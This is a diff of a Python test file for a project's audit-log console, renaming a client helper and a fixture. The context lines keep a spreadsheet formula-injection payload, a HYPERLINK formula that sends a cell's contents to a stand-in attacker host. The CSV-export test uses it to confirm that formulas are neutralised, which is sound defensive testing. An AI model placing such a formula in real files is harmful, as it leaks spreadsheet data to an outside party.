@@ -11,7 +11,7 @@ from collections.abc import Callable, Iterator
 from datetime import UTC, datetime, timedelta
 
 import pytest
-from support.console import Hand, engine_of, words_of
+from support.console import ConsoleClient, engine_of, words_of
 
 from penstock import audit
 from penstock.access import consumers, limits, variables
@@ -25,8 +25,8 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
 @pytest.fixture
-def runtime(desk: Callable[..., Runtime]) -> Runtime:
-    made = desk()
+def runtime(console_runtime: Callable[..., Runtime]) -> Runtime:
+    made = console_runtime()
     engine = engine_of(made)
     consumers.create_consumer(engine, "ann", "acme")
     limits.set_limit(engine, "oli", "acme", "test", Rate("5/minute"))
@@ -53,7 +53,7 @@ def listed(page: str) -> list[int]:
 
 
 def test_events_are_filtered_by_who_what_whom_where_and_when(runtime: Runtime) -> None:
-    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     many(engine, 1, actor="olga", at=datetime.now(UTC) - timedelta(hours=5))
 
     def found(**query: str) -> list[str]:
@@ -79,7 +79,7 @@ def test_events_are_filtered_by_who_what_whom_where_and_when(runtime: Runtime) -
 
 
 def test_what_is_no_action_or_span_is_said_beside_its_field(runtime: Runtime) -> None:
-    vic = Hand.of(runtime, "vic")
+    vic = ConsoleClient.of(runtime, "vic")
     action, since, exported = (
         vic.get("/audit", action="limit:sett"),
         vic.get("/audit", since="x"),
@@ -99,7 +99,7 @@ def test_what_is_no_action_or_span_is_said_beside_its_field(runtime: Runtime) ->
 
 
 def test_pages_go_on_after_the_last_event_of_the_one_before(runtime: Runtime) -> None:
-    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     many(engine, 120)
     found, path = list[int](), "/audit?actor=bot"
     while path:
@@ -114,7 +114,7 @@ def test_pages_go_on_after_the_last_event_of_the_one_before(runtime: Runtime) ->
 
 
 def test_an_event_is_told_in_words(runtime: Runtime) -> None:
-    vic = Hand.of(runtime, "vic")
+    vic = ConsoleClient.of(runtime, "vic")
     (number,) = listed(vic.get("/audit", action="limit:set").text)
     said = words_of(vic.get(f"/audit/{number}").text)
 
@@ -127,7 +127,7 @@ def test_an_event_is_told_in_words(runtime: Runtime) -> None:
 def test_an_export_has_every_event_of_its_filters_and_no_formula(
     runtime: Runtime, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     monkeypatch.setattr(audit, "AT_ONCE", 10)
     many(engine, 25, actor="+bot", subject="\tx", detail={"note": FORMULA})
     sheet = vic.get("/audit/export", format="csv", actor="+bot")
@@ -152,7 +152,7 @@ def test_an_export_has_every_event_of_its_filters_and_no_formula(
 
 def test_an_export_is_sent_as_it_is_read(runtime: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
     many(engine_of(runtime), 30)
-    vic, read = Hand.of(runtime, "vic"), list[int]()
+    vic, read = ConsoleClient.of(runtime, "vic"), list[int]()
     ask = audit.events
 
     def counted(engine: Engine, *, limit: int, **more: object) -> list[audit.Event]:
@@ -171,7 +171,7 @@ def test_an_export_is_sent_as_it_is_read(runtime: Runtime, monkeypatch: pytest.M
 
 
 def test_nothing_that_was_typed_becomes_markup(runtime: Runtime) -> None:
-    engine, vic = engine_of(runtime), Hand.of(runtime, "vic")
+    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
     many(
         engine,
         1,
